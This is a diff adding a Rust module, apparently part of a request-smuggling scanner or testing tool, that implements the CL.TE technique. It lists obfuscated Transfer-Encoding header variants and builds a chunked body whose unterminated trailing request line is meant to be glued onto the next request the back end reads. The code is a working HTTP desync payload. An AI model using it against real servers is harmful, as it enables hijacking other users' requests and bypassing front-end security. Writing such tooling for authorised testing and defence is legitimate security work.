@@ -0,0 +1,31 @@
+use crate::modules::smuggle::{SmuggleTask, Variant};
+
+/// The front end forwards by Content-Length while the back end honors Transfer-Encoding.
+pub struct ClTe;
+
+pub type ClTeTask = SmuggleTask<ClTe>;
+
+impl Variant for ClTe {
+    const MODULE: &'static str = "ClTe";
+    const TECHNIQUE: &'static str = "CL.TE";
+    const SMUGGLE_METHOD: &'static str = "GET";
+    const TE_HEADERS: &'static [&'static str] = &[
+        "Transfer-Encoding: chunked",
+        "Transfer-Encoding : chunked",
+        "Transfer-Encoding:\tchunked",
+        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
+    ];
+
+    fn body(method: &str, path: &str) -> (String, usize) {
+        // Left unterminated so the back end glues it onto the next request it reads.
+        let smug = format!(
+            "\
+            {} {} HTTP/1.1\r\n\
+            X: ",
+            method, path
+        );
+        let body = format!("0\r\n\r\n{smug}");
+        let len = body.len();
+        (body, len)
+    }
+}